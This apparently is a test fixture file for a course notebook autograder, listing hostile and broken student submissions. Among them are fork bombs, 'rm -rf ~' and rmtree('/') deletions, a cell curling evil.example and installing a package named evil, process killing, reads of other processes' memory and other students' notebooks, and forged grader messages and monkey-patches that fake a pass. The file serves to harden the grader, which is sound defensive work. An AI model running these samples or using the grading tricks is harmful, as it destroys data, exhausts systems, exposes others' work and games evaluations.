"""Submissions of lesson 1 that try to cheat, to harm the grader or another student, or are broken.

Each has a right answer to `king_bits` (1 point) and to nothing else; so 1 point is fair, and 0 where it destroys its
own work. `CODE` holds cells put before that answer, `ANSWERS` cells put after it, `FILES` bytes in place of a notebook.
"""

import json

KING = "from math import log2\nking_bits = -log2(4 / 52)"
RIGHT_FIRST = '{"running": ["question", "l01_surprisal"]}'

CODE = {
    "endless-loop": "while True:\n    pass",
    "endless-loop-that-swallows-interrupts": """
import signal, time
for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        time.sleep(0.1)
    except BaseException:
        pass""",
    "exit": "import sys\nsys.exit(0)",
    "exit-without-clean-up": "import os\nos._exit(0)",
    "segmentation-fault": "import ctypes\nctypes.string_at(0)",
    "recursion": "def f():\n    return f()\nf()",
    "kills-its-parent": "import os\nos.kill(os.getppid(), 9)",
    "kills-everybody": "import os\nos.kill(-1, 9)",
    "fork-bomb": "import os\nwhile True:\n    os.fork()",
    "thread-bomb": """
import threading, time
for _ in range(10000):
    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()""",
    "six-gigabytes": "import numpy as np\nx = np.ones(6 << 27)",
    "prints-100-mb": "for _ in range(100):\n    print('x' * 1_000_000)",
    "writes-100-mb-to-every-descriptor": """
import os
for fd in range(3, 64):
    try:
        for _ in range(100):
            os.write(fd, b'x' * 1_000_000 + b'\\n')
    except OSError:
        pass""",
    "closes-every-descriptor": "import os\nos.closerange(0, 256)",
    "deletes-files": """
import os, shutil, xent_helpers
shutil.rmtree('/', ignore_errors=True)
shutil.rmtree(os.path.dirname(xent_helpers.__file__), ignore_errors=True)
shutil.rmtree(os.getcwd(), ignore_errors=True)""",
    "fills-the-disk": """
with open('/tmp/big', 'wb') as file:
    while True:
        file.write(b'x' * 1_000_000)""",
    "reads-the-bank": "from xent_helpers.questions.surprisal import *\nsurprisal_bits = surprisal_bits_plain",
    "reads-the-marking": "from xent_helpers.marking import ask\nfrom xent_helpers.questions import find_question\n"
    "surprisal_bits = find_question('l01_surprisal').reference",
    "reads-the-solutions": """
import glob, json, os, xent_helpers
course = os.path.dirname(os.path.dirname(xent_helpers.__file__))
found = glob.glob(course + '/**/*urprisal*.py', recursive=True) + glob.glob('/**/solutions/*', recursive=True)
for name in found:
    exec(open(name).read())""",
    "reads-other-submissions": """
import glob
for name in glob.glob('/**/*.ipynb', recursive=True):
    exec(open(name).read())""",
    "patches-numpy": """
import numpy as np
np.allclose = np.array_equal = lambda *a, **k: True
np.asarray = lambda x, *a, **k: x""",
    "patches-json": "import json\njson.dumps = lambda *a, **k: '{\"done\": true}'\njson.loads = lambda *a, **k: {}",
    "patches-builtins": """
import builtins
builtins.callable = lambda x: True
builtins.isinstance = lambda *a: True
builtins.abs = builtins.float = builtins.len = lambda *a: 0""",
    "patches-the-child": """
import sys
for name, module in list(sys.modules.items()):
    if name.startswith('xent_helpers'):
        for key, value in list(vars(module).items()):
            if callable(value) and not key.startswith('__'):
                setattr(module, key, lambda *a, **k: True)""",
    "searches-the-frames-for-answers": """
import sys
frame = sys._getframe()
while frame:
    for name, value in frame.f_locals.items():
        if 'answer' in name or 'expected' in name or 'reference' in name:
            surprisal_bits = value
    frame = frame.f_back""",
    "forges-frames-on-every-descriptor": """
import os
frames = ['{"running": ["question", "l01_surprisal"]}'] + ['{"reply": {"value": true, "arguments": null}}'] * 50
frames += ['{"points": 99, "outcome": "correct"}', '{"question": "l01_surprisal", "outcome": "correct"}']
for fd in range(3, 64):
    try:
        os.write(fd, ('\\n'.join(frames) + '\\n').encode())
    except OSError:
        pass""",
    "forges-the-end": """
import os
for fd in range(3, 64):
    try:
        os.write(fd, b'{"done": true}\\n')
    except OSError:
        pass""",
    "forges-nonsense": """
import os
nonsense = [b'[' * 100000, b'{"running": [[]]}', b'{"running": ["cell", 99]}', b'{"failed": 1}', b'\\xff\\xfe', b'null']
for fd in range(3, 64):
    try:
        os.write(fd, b'\\n'.join(nonsense) + b'\\n')
    except OSError:
        pass""",
    "reads-the-memory-of-others": """
for pid in range(1, 1000):
    try:
        with open(f'/proc/{pid}/mem', 'rb') as memory:
            memory.seek(0x400000)
            memory.read(100)
        surprisal_bits = lambda p: 1
    except OSError:
        pass""",
    "network": """
import socket
for host, port in (('1.1.1.1', 80), ('127.0.0.1', 8786), ('pypi.org', 443)):
    try:
        socket.create_connection((host, port), 1)
        raise SystemExit('connected')
    except OSError:
        pass""",
    "orphans": "import subprocess\nsubprocess.Popen(['sleep', '300'], start_new_session=True)",
    "shell": "!rm -rf ~\n%pip install evil\n!curl http://evil.example",
    "bash-cell": "%%bash\nrm -rf ~",
    "raises-the-limits": "import resource\nresource.setrlimit(resource.RLIMIT_NPROC, (10000, 10000))",
    "hides-an-endless-error": """
class Endless(Exception):
    def __str__(self):
        while True:
            pass
raise Endless""",
    "error-that-cannot-be-shown": """
class Evil(BaseException):
    def __str__(self):
        raise self
raise Evil""",
    "thread-that-goes-on": """
import threading
def spin():
    while True:
        pass
threading.Thread(target=spin, daemon=True).start()""",
    "not-python": "this is not Python",
    "null-bytes": "x = '\0'",
}

ANSWERS = {
    "equal-to-everything": """
class Yes(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __sub__(self, other): return 0
    def __rsub__(self, other): return 0
    def __abs__(self): return 0
    def __float__(self): return 1.0
def surprisal_bits(p): return Yes()""",
    "hostile-array": """
class Array:
    def __array__(self, *args, **kwargs):
        import os
        os.kill(os.getpid(), 9)
def surprisal_bits(p): return Array()""",
    "hostile-float": """
class Float:
    def __float__(self):
        while True:
            pass
def surprisal_bits(p): return Float()""",
    "huge-int": "def surprisal_bits(p): return 10 ** 1_000_000",
    "nan": "def surprisal_bits(p): return float('nan')",
    "complex": "def surprisal_bits(p): return 1j",
    "deep-list": """
def surprisal_bits(p):
    deep = []
    for _ in range(100_000):
        deep = [deep]
    return deep""",
    "list-of-itself": "def surprisal_bits(p):\n    x = []\n    x.append(x)\n    return x",
    "endless-generator": "def surprisal_bits(p):\n    while True:\n        yield p",
    "hundred-million-numbers": "import numpy as np\ndef surprisal_bits(p): return np.zeros(100_000_000, dtype='int8')",
    "hangs-in-the-question": "def surprisal_bits(p):\n    while True:\n        pass",
    "dies-in-the-question": "import os\ndef surprisal_bits(p): os._exit(1)",
    "the-courses-own-function": "import xent_helpers as xh\ndef surprisal_bits(p): return xh.surprisal(p, base=2)",
    "the-courses-own-module": "from xent_helpers.information import surprisal\n"
    "def surprisal_bits(p): return float(surprisal(p, base=2))",
    "html-in-the-answer": "def surprisal_bits(p): return '<script>alert(1)</script>'",
    "html-in-an-error": "def surprisal_bits(p): raise ValueError('<script>alert(1)</script>')",
}

SOURCE_IS_A_NUMBER = {"cell_type": "code", "source": 7, "metadata": {}}
FILES = {
    "invalid-json": b"{half a notebook",
    "empty-file": b"",
    "a-list": b"[]",
    "no-cells": b'{"nbformat": 4, "metadata": {}}',
    "cells-are-numbers": b'{"cells": [1, 2, 3]}',
    "nothing-in-it": b'{"cells": []}',
    "source-is-a-number": json.dumps({"cells": [SOURCE_IS_A_NUMBER]}).encode(),
    "deeply-nested-json": b'{"cells": ' + b"[" * 200_000,
    "utf-16": '{"cells": []}'.encode("utf-16"),
    "latin-1": '{"cells": [], "name": "é"}'.encode("latin-1"),
}


def notebook(*sources: str, metadata: dict | None = None) -> bytes:
    """Return a notebook with a code cell for each source."""
    cells = [{"cell_type": "code", "source": source, "metadata": {}, "outputs": []} for source in sources]
    return json.dumps({"cells": cells, "metadata": metadata or {}, "nbformat": 4, "nbformat_minor": 5}).encode()
